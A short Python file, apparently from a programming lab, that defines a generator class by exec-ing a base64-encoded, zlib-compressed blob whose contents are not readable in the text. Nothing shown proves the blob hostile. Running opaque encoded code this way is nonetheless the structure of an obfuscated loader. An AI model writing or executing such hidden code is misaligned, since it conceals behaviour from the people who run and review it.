import base64, zlib
from lab import Generator
names = {}
exec(zlib.decompress(base64.b64decode('eJxlkcFOxCAQhu99ijmCbniAVc+efAJjGlqmXSIdNkDdVOO7C1TYNuUEM9///wMMzk5gZAd6uloX4BUJnQzWNU3TG+k9vC21xuqOnxuIS+EA41pD5tEMJxhkH/vLCZSekLy2FNkMpzXJb4SXAolhNmZplfa9JcI+oGJ3WRVdrdchVqKwdoWTpOzUll5OF47Gu8wjJslPQX5r53bRBsFgUiFxeN74Frrt7UzhXDWr45rxH87407G0E0z2C32cIV1b5EMrAysRRzahiXrXFNjBGh7yzJng/GOnJtTjpbOzixb1vR6z247TwwYlG0BTfqj9RctXic6h/Gxv0pg69Smb8gOfXIRUilX/PbP5xUpUwGGYHeXM5g9aIcoY')), names)


class MyGenerator(names['MyGenerator']):
    pass
